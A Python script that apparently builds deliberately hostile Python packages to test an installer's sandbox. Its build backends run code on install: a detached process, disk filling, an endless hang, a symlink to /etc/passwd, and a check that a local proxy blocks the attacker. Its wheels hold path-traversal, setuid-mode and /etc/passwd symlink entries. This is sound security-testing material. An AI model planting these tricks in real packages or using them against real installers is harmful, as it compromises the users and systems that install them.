"""Writes packages that attack whoever installs them into a folder: hostile_packages.py FOLDER ATTACKS BAIT"""

import os
import sys
import zipfile

FOLDER, ATTACKS, BAIT = sys.argv[1:]

PROJECT = """
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"""

# In the place of setup.py: run by the installer, and free to do what it likes.
BACKEND = """
import json, os, subprocess, sys, time, urllib.error, urllib.request, zipfile
NAME, BAIT = {name!r}, json.loads({bait!r})

def act():
{act}

def build_wheel(folder, config_settings=None, metadata_directory=None):
    value = act()
    info = NAME + "-1.0.dist-info/"
    file = NAME + "-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, file), "w") as wheel:
        wheel.writestr(NAME + ".py", "VALUE = %r" % (value,))
        wheel.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: %s\\nVersion: 1.0\\n" % NAME)
        wheel.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr(info + "RECORD", "")
    return file
"""

# What each does, and what its module then holds.
ACTS = {
    "attacker": """
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)"], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    import attacks
    reached = attacks.attack(BAIT)
    try:
        urllib.request.urlopen("http://127.0.0.1:%d/" % BAIT["port"], timeout=5)
        reached.append("through the proxy")
    except urllib.error.HTTPError as error:
        assert error.code == 403 and "packages" in error.read().decode(), error
    return reached
""",
    "filler": """
    while True:
        for number in range(100):
            with open("filling-%d-%d" % (os.getpid(), time.time_ns()), "wb") as file:
                file.write(bytes(1 << 20))
""",
    "sleeper": """
    while True:
        time.sleep(1)
""",
    "linker": """
    os.symlink("/etc/passwd", os.path.join(sys.prefix, "bin", "climbs"))
""",
}

for name, act in ACTS.items():
    with zipfile.ZipFile(os.path.join(FOLDER, name + "-1.0.zip"), "w") as archive:
        top = name + "-1.0/"
        archive.writestr(top + "pyproject.toml", PROJECT)
        archive.writestr(top + "backend.py", BACKEND.format(name=name, bait=BAIT, act=act))
        archive.writestr(top + "attacks.py", ATTACKS)
        archive.writestr(top + "PKG-INFO", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")


def wheel(name, entries):
    info = name + "-1.0.dist-info/"
    with zipfile.ZipFile(os.path.join(FOLDER, name + "-1.0-py3-none-any.whl"), "w") as archive:
        archive.writestr(info + "METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
        archive.writestr(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        for path, mode, content in entries:
            entry = zipfile.ZipInfo(path)
            entry.external_attr = mode << 16
            archive.writestr(entry, content)
        archive.writestr(info + "RECORD", "")


wheel("climber", [("../../../../../../../../../../tmp/apkg-pwned-by-a-wheel", 0o100644, "")])
wheel("odd", [
    ("odd.py", 0o100644, "VALUE = None"),
    ("odd-runs-as-root", 0o106755, "#!/bin/sh\n"),
    ("odd-link", 0o120777, "/etc/passwd"),
])
